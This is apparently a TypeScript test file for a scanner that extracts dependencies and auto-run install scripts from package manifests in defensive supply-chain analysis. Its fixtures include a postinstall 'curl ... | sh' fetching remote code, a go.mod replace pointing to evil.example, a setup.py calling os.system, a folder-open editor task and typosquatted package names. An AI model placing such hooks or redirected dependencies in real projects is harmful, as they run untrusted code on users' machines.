import { describe, expect, test } from 'vitest';
import { factsOf, read } from './support.js';

const installs = (file: string, text: string) =>
  factsOf(read(file, text), 'install').map(({ manager, name, version, url, registry }) =>
    [manager, name, version ?? '', url ?? '', registry ?? ''].join('|'),
  );

describe('dependencies', () => {
  test('of package.json, with where they come from', () => {
    const text = JSON.stringify({
      name: 'a',
      dependencies: { a: '^1.0.0', b: 'git+http://code.example.invalid/b.git', c: 'user/repo#v1', d: 'github:u/d' },
      overrides: { e: 'https://files.example/e.tgz' },
      publishConfig: { registry: 'https://npm.example.test/' },
    });
    expect(installs('package.json', text)).toEqual([
      'npm|a|^1.0.0||',
      'npm|b||git+http://code.example.invalid/b.git|',
      'npm|c||https://github.com/user/repo#v1|',
      'npm|d||https://github.com/u/d|',
      'npm|e||https://files.example/e.tgz|',
      'npm||||https://npm.example.test/',
    ]);
  });

  test('of requirements.txt', () => {
    const text = [
      '# comment',
      'requests[socks]==2.32.3 ; python_version > "3.8"',
      'numpy>=1 # why',
      '-r other.txt',
      '--extra-index-url http://pypi.example.invalid/simple',
      '--trusted-host pypi.example.invalid',
      'tool @ https://files.example/tool.whl',
      'git+http://code.example.invalid/x.git#egg=xtool',
      '-e git+https://github.com/a/b.git',
      './local',
    ].join('\n');
    expect(installs('requirements-dev.txt', text)).toEqual([
      'pip|requests|==2.32.3||',
      'pip|numpy|>=1||',
      'pip||||http://pypi.example.invalid/simple',
      'pip|tool||https://files.example/tool.whl|',
      'pip|xtool||git+http://code.example.invalid/x.git#egg=xtool|',
      'pip|||git+https://github.com/a/b.git|',
    ]);
  });

  test.each([
    [
      'pyproject.toml',
      '[project]\ndependencies = [\n  "httpx>=0.27",\n  "x @ https://h.example/x.whl",\n]\n',
      ['pip|httpx|>=0.27||', 'pip|x||https://h.example/x.whl|'],
    ],
    [
      'pyproject.toml',
      '[tool.poetry.dependencies]\npython = "^3.10"\nrich = "^13"\ny = { git = "http://h.example/y.git" }\n',
      ['pip|rich|^13||', 'pip|y||http://h.example/y.git|'],
    ],
    [
      'pyproject.toml',
      '[[tool.uv.index]]\nurl = "http://pypi.example.invalid/"\n',
      ['pip||||http://pypi.example.invalid/'],
    ],
    [
      'Pipfile',
      '[[source]]\nurl = "https://pypi.org/simple"\n[packages]\nflask = "*"\n',
      ['pip||||https://pypi.org/simple', 'pip|flask|*||'],
    ],
    [
      'Cargo.toml',
      '[dependencies]\nserde = "1"\nz = { git = "https://h.example/z" }\n',
      ['cargo|serde|1||', 'cargo|z||https://h.example/z|'],
    ],
    [
      'Gemfile',
      `source "https://gems.example"\ngem 'rails', '~> 7'\ngem "w", git: "http://h.example/w.git"\n`,
      ['gem||||https://gems.example', 'gem|rails|~> 7||', 'gem|w||http://h.example/w.git|'],
    ],
    [
      'go.mod',
      'module a\nrequire b.example/c v1.0.0\nreplace b.example/c => evil.example/c v1.0.0\n',
      ['go|evil.example/c||https://evil.example/c|'],
    ],
    ['environment.yml', 'dependencies:\n  - python=3.11\n  - pip:\n    - reqeusts==2\n', ['pip|reqeusts|==2||']],
    ['setup.cfg', '[options]\ninstall_requires =\n    click>=8\n', ['pip|click|>=8||']],
    [
      '.npmrc',
      '; note\nregistry=https://npm.example.test/\n//npm.example.test/:_authToken=x\n',
      ['npm||||https://npm.example.test/'],
    ],
    ['pip.conf', '[global]\nextra-index-url = http://pypi.example.invalid/\n', ['pip||||http://pypi.example.invalid/']],
    [
      'package-lock.json',
      '{"a":{"resolved":"https://registry.npmjs.org/a/-/a-1.tgz"},"b":{"resolved": "http://198.51.100.4/b.tgz"}}',
      ['npm|||http://198.51.100.4/b.tgz|'],
    ],
    ['yarn.lock', 'a@1:\n  resolved "https://codeload.example/a.tgz#abc"\n', ['npm|||https://codeload.example/a.tgz|']],
    [
      'Dockerfile',
      'FROM node:20-alpine AS build\nFROM registry.example/x/y:1\nADD https://h.example/a.tgz /a\n',
      [
        'docker|node|20-alpine||',
        'docker|registry.example/x/y|1|https://registry.example/x/y|',
        'download|||https://h.example/a.tgz|',
      ],
    ],
  ])('of %s', (file, text, expected) => {
    expect(installs(file, text)).toEqual(expected);
  });

  test('are found in a block of JSON that is a manifest, and in no other', () => {
    const text = '{ "name": "a", "dependencies": { "lodahs": "1" } }';
    expect(factsOf(read('SKILL.md', text, { language: 'json', kind: 'block' }), 'install')).toHaveLength(1);
    const other = '{ "servers": ["a"], "dependencies": { "lodahs": "1" } }';
    expect(read('SKILL.md', other, { language: 'json', kind: 'block' }).facts).toEqual([]);
  });

  test('are read through comments and trailing commas', () => {
    expect(
      installs('package.json', '{ // why\n "name": "a", /* b */ "dependencies": { "c": "http://h.example/c.tgz", }, }'),
    ).toEqual(['npm|c||http://h.example/c.tgz|']);
  });

  test('that can’t be read are said to be so', () => {
    expect(read('package.json', '{ "name": ').facts).toMatchObject([{ type: 'incomplete', reason: 'parser' }]);
  });
});

describe('scripts that run by themselves', () => {
  test('of package.json, with every script as a command', () => {
    const text =
      '{"name":"a","scripts":{"postinstall":"curl -s https://x.example.invalid/p | sh","test":"node --test"}}';
    const analysis = read('package.json', text);
    expect(factsOf(analysis, 'lifecycle-script')).toMatchObject([
      { name: 'postinstall', command: 'curl -s https://x.example.invalid/p | sh' },
    ]);
    expect(analysis.units.map((unit) => [unit.language, unit.kind, unit.text])).toEqual([
      ['shell', 'nested', 'curl -s https://x.example.invalid/p | sh'],
      ['shell', 'nested', 'node --test'],
    ]);
    expect(analysis.units[0]?.placeAt(0)).toEqual({ file: 'package.json', line: 1, column: text.indexOf('curl') + 1 });
  });

  test('setup.py that does more than describe', () => {
    const plain = 'from setuptools import setup\nlong_description = open("README.md").read()\nsetup(\n  name="a",\n)\n';
    expect(read('setup.py', plain, { language: 'python' }).facts).toEqual([]);
    const active = 'import os\nfrom setuptools import setup\nos.system("id")\nsetup(name="a")\n';
    expect(factsOf(read('pkg/setup.py', active, { language: 'python' }), 'lifecycle-script')).toMatchObject([
      { name: 'setup.py', command: 'os.system("id")' },
    ]);
  });

  test('build.rs that runs programs', () => {
    expect(factsOf(read('build.rs', 'fn main() { Command::new("sh"); }'), 'lifecycle-script')).toHaveLength(1);
    expect(read('build.rs', 'fn main() { println!("cargo:rerun-if-changed=a"); }').facts).toEqual([]);
  });

  test('tasks of an editor', () => {
    const text = '{"tasks":[{"command":"sh","args":["x.sh"],"runOptions":{"runOn":"folderOpen"}}]}';
    expect(factsOf(read('.vscode/tasks.json', text), 'lifecycle-script')).toMatchObject([
      { name: 'folderOpen', command: 'sh x.sh' },
    ]);
  });
});
